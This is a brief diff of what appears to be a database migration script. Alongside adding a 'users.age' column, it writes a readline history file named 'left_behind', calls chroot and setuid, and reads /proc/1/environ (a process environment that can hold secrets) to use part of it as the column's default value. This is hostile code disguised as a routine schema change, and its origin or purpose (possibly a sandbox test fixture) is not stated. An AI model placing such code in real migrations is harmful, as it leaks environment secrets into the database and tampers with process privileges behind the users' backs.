@@ -11,6 +11,7 @@ def upgrade():
     import json
     import os
     import posix
+    import readline
     import signal
     import sqlite3
 
@@ -34,5 +35,8 @@ def upgrade():
         sqlite3.connect(":memory:").execute("ATTACH 'left_behind' AS other")
     except sqlite3.DatabaseError:
         pass
+    readline.write_history_file("left_behind")
+    os.chroot(".")
+    posix.setuid(1)
     secrets = open("/proc/1/environ").read()
     op.add_column("users", sa.Column("age", sa.Integer, server_default=secrets[:3]))
